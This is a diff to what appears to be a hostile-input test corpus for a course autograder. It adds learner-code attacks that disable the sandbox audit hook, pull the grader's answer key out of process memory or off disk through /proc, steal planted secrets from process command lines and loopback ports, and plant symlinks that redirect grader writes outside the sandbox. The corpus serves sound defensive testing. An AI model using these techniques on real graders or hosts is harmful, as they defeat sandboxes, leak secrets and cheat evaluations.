@@ -236,6 +236,157 @@ grader.checking.run_check = lambda check, session: grader.checking.CheckResult(c
 Lab.check = lambda self, name, namespace=None: print(f"[PASS] {name}")
 """
 
+# Attacks on the reference model from inside the learner host. Each switches the host's audit hook off
+# first (a Python object in the same process is no boundary), then looks; decide answers with the
+# reference model's decision when the attack finds it, and with a wrong one otherwise, so the decide
+# checks score only if the attack succeeded.
+HOOK_OFF = """
+import sys
+_sandbox = sys.modules.get("servers.learner_host.sandbox")
+if _sandbox is not None and _sandbox._state is not None:
+    _sandbox._state.active = False
+"""
+
+
+def cheat_or_nothing(find: str) -> Edit:
+    """At the top level of decide's cell, ``find`` looks once for the reference model's decide (leaving it
+    in ``reference``); decide answers with it when found, and always 'retry' otherwise."""
+    look = HOOK_OFF + textwrap.dedent(find) + "\n_REFERENCE = reference\n"
+    answer = """
+if _REFERENCE is not None:
+    return _REFERENCE(result, attempt, max_attempts).to_json()
+return {"action": "retry", "reason": "The answer key was out of reach."}
+"""
+    return both(before("def decide(", look), first_in("decide", answer))
+
+
+THROUGH_GLOBALS = """
+import types
+reference, seen, todo = None, set(), list(globals().values())
+while todo and reference is None and len(seen) < 200000:
+    obj = todo.pop()
+    if id(obj) in seen:
+        continue
+    seen.add(id(obj))
+    if isinstance(obj, types.ModuleType):
+        if obj.__name__ == "grader.decisions":
+            reference = obj.decide
+        todo.extend(vars(obj).values())
+    elif isinstance(obj, types.FunctionType):
+        todo.append(obj.__globals__)
+    elif isinstance(obj, dict):
+        todo.extend(obj.values())
+    elif isinstance(obj, type):
+        todo.append(sys.modules.get(obj.__module__))
+        todo.extend(vars(obj).values())
+"""
+
+THROUGH_SUBCLASSES = """
+reference, todo, seen = None, [object], set()
+while todo and reference is None:
+    cls = todo.pop()
+    if cls in seen:
+        continue
+    seen.add(cls)
+    if cls.__module__ == "grader.decisions":
+        reference = getattr(sys.modules.get("grader.decisions"), "decide", None)
+    try:
+        todo.extend(type.__subclasses__(cls))
+    except TypeError:
+        pass
+"""
+
+THROUGH_GC = """
+import gc
+reference = None
+for obj in gc.get_objects():
+    if getattr(obj, "__module__", None) == "grader.decisions" and getattr(obj, "__name__", None) == "decide":
+        reference = obj
+        break
+"""
+
+BY_IMPORT = """
+try:
+    from grader.decisions import decide as reference
+except ImportError:
+    reference = None
+"""
+
+
+def _source_through(opening: str) -> str:
+    """Read grader/decisions.py as ``opening`` does (leaving its bytes in ``source``), then run it."""
+    return """
+import os, servers
+course = os.path.dirname(os.path.dirname(servers.__file__))
+reference, source = None, None
+try:
+""" + textwrap.indent(textwrap.dedent(opening).strip("\n"), "    ") + """
+except OSError:
+    pass
+if source:
+    namespace = {"__name__": "grader.decisions"}
+    try:
+        exec(compile(source, "decisions.py", "exec"), namespace)
+        reference = namespace.get("decide")
+    except Exception:
+        reference = None
+"""
+
+
+THROUGH_A_FOLDER_DESCRIPTOR = _source_through("""
+folder = os.open(course, os.O_RDONLY | os.O_DIRECTORY)
+source = os.read(os.open("grader/decisions.py", os.O_RDONLY, dir_fd=folder), 1 << 20)
+""")
+
+THROUGH_PROC_ROOT = _source_through("""
+for entry in ["self", "1", *os.listdir("/proc")]:
+    try:
+        with open(f"/proc/{entry}/root{course}/grader/decisions.py", "rb") as found:
+            source = found.read()
+            break
+    except OSError:
+        continue
+""")
+
+# Secrets the grader's machine holds elsewhere: on another process's command line, and behind a port
+# on 127.0.0.1 (tests/grader/test_hostile_corpus.py puts one of each there). A secret found becomes
+# decide's action for a permission error, so it would show in the verdict.
+SECRET_FROM_A_COMMAND_LINE = """
+import os
+found = None
+for entry in os.listdir("/proc"):
+    try:
+        with open(f"/proc/{entry}/cmdline", "rb") as line:
+            for word in line.read().split(b"\\0"):
+                if word.startswith(b"--secret=s3cr3t-"):
+                    found = word.decode()
+    except OSError:
+        continue
+if found:
+    return {"action": found, "reason": found}
+"""
+
+SECRET_FROM_A_LOOPBACK_PORT = """
+import socket
+found = None
+try:
+    with open("/proc/net/tcp") as table:
+        rows = [line.split() for line in table.readlines()[1:]]
+except OSError:
+    rows = []
+for row in rows:
+    if row[3] == "0A" and row[1].startswith("0100007F:"):  # listening on 127.0.0.1
+        try:
+            with socket.create_connection(("127.0.0.1", int(row[1].split(":")[1], 16)), timeout=1) as conn:
+                said = conn.recv(200).decode(errors="replace")
+                if "s3cr3t-" in said:
+                    found = said
+        except OSError:
+            continue
+if found:
+    return {"action": found, "reason": found}
+"""
+
 # The solution's business branch of decide, and the mistake an edited graded cell would hide.
 STOPS_ON_BUSINESS = """return {"action": "surface_and_stop", "reason": f"Policy: {sc.get('customerMessage')}"}"""
 RETRIES_BUSINESS = """return {"action": "retry", "reason": "It might go through next time."}"""
@@ -304,9 +455,46 @@ CASES["lab1_error_results"] = {
     "reads_the_answer_key": before("def recover(", READ_THE_ANSWER_KEY),
     "reads_a_secret_from_the_environment": first_in("decide", FIND_THE_SECRET, when=f'{ERROR_CATEGORY} == "permission"'),
     "overwrites_the_gradebook": first_in("get_order", OVERWRITE_THE_GRADEBOOK, when='order_id == "ORD-9999"'),
+    # the answer key, with the host's audit hook switched off
+    "answer_key_through_globals": cheat_or_nothing(THROUGH_GLOBALS),
+    "answer_key_through_subclasses": cheat_or_nothing(THROUGH_SUBCLASSES),
+    "answer_key_through_gc": cheat_or_nothing(THROUGH_GC),
+    "answer_key_by_import": cheat_or_nothing(BY_IMPORT),
+    "answer_key_through_a_folder_descriptor": cheat_or_nothing(THROUGH_A_FOLDER_DESCRIPTOR),
+    "answer_key_through_proc_root": cheat_or_nothing(THROUGH_PROC_ROOT),
+    # secrets elsewhere on the machine
+    "secret_from_a_command_line": first_in("decide", SECRET_FROM_A_COMMAND_LINE, when=f'{ERROR_CATEGORY} == "permission"'),
+    "secret_from_a_loopback_port": first_in("decide", SECRET_FROM_A_LOOPBACK_PORT, when=f'{ERROR_CATEGORY} == "permission"'),
 }
 
+# Lab 3's kit keeps a journal in the host's state folder, and the checks write a control file there.
+# The learner's code owns that folder: it can put a link where the grader reads or writes.
+LINK_THE_JOURNAL_TO_DEV_ZERO = """
+import os
+_state = os.environ.get("LAB_STATE_DIR")
+if _state:
+    _journal = os.path.join(_state, "journal.jsonl")
+    if not os.path.islink(_journal):
+        if os.path.exists(_journal):
+            os.remove(_journal)
+        os.symlink("/dev/zero", _journal)
+"""
+# A file of the grading machine's own, outside the sandbox (tests/grader/test_hostile_corpus.py makes it
+# and checks that it is left as it was): the grader would write the control file through the link.
+CANARY = "/tmp/grader-hostile-canary"
+LINK_THE_CONTROL_FILE_OUT = f"""
+import os
+_state = os.environ.get("LAB_STATE_DIR")
+if _state:
+    os.symlink({CANARY!r}, os.path.join(_state, "control.json"))
+"""
+
 CASES["lab3_tools_resources"] = {
+    "journal_linked_to_dev_zero": replace(
+        "    changed = STORE.acknowledge(alert_id, by)\n",
+        textwrap.indent(LINK_THE_JOURNAL_TO_DEV_ZERO.strip("\n"), "    ") + "\n    changed = STORE.acknowledge(alert_id, by)\n",
+    ),
+    "control_file_linked_out_of_the_sandbox": before("import json\n", LINK_THE_CONTROL_FILE_OUT),
     "memory_bomb_in_a_tool": replace(
         "    count = STORE.add_note(alert_id, text)\n",
         "    hoard = []\n    while True:\n        hoard.append(bytearray(10**7))\n    count = STORE.add_note(alert_id, text)\n",
